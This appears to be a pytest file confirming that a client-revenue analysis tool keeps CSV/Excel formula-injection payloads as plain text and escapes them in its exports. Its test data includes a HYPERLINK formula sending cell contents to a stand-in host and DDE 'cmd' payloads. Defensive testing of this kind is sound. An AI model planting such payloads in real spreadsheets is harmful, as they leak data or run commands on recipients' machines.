"""Formula payloads in cells are never evaluated, and every export neutralises them.

The analysis keeps them as plain client names; the Excel report and the CSV
download prefix them with ``'`` so a spreadsheet shows the text instead of
running it, while a genuine negative amount stays a number.
"""

from __future__ import annotations

import csv
import io

import pytest
from hostile import csv as csv_bytes
from hostile import xlsx

import niche

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
REFUND = "Refund Only Co"
ROWS: list[list[object]] = [
    ["Client", "Industry", "PCs", "Revenue"],
    ["Bright Smile Dental", "Dental office", 20, 48000],
    *[[p, "Law firm", 5 + i, 1000 * (i + 1)] for i, p in enumerate(PAYLOADS)],
    [REFUND, "Retail", 3, -1200],
]


@pytest.fixture(params=["csv", "xlsx"])
def analysis(request: pytest.FixtureRequest) -> niche.Analysis:
    data = csv_bytes(ROWS) if request.param == "csv" else xlsx(ROWS)
    return niche.analyze_bytes(data, f"payloads.{request.param}")


def test_payloads_stay_text_client_names(analysis: niche.Analysis) -> None:
    names = dict(
        zip(analysis.clients["client"], analysis.clients["annual_revenue"], strict=True)
    )
    for i, payload in enumerate(PAYLOADS):
        assert names[payload] == 1000 * (i + 1)  # the name, not a computed value
    assert names[REFUND] == -1200
    assert not analysis.excluded


def test_payloads_stay_text_in_the_json_contract(analysis: niche.Analysis) -> None:
    from niche.export.contract import to_dict

    names = {c["client"] for c in to_dict(analysis)["clients"]}
    assert set(PAYLOADS) <= names


def test_excel_report_neutralises_payloads(analysis: niche.Analysis) -> None:
    import openpyxl

    from niche.export.report import to_xlsx

    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(analysis)))
    texts: list[str] = []
    negative_amounts: list[float] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(TRIGGERS), (
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )
                elif isinstance(cell.value, int | float) and cell.value == -1200:
                    negative_amounts.append(cell.value)
    for payload in PAYLOADS:
        assert "'" + payload in texts
    assert negative_amounts  # the refund stays a number


def test_csv_download_neutralises_payloads(analysis: niche.Analysis) -> None:
    from niche.export.report import to_csv

    text = to_csv(analysis).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    for row in body:
        for field in row:
            if field.startswith(TRIGGERS):  # only plain numbers may start so
                float(field)
    firsts = {field for row in body for field in row}
    for payload in PAYLOADS:
        assert "'" + payload in firsts
        assert payload not in firsts
    refund = next(row for row in body if REFUND in row)
    assert -1200.0 in {_number(f) for f in refund}
    assert header


def _number(field: str) -> float | None:
    try:
        return float(field)
    except ValueError:
        return None
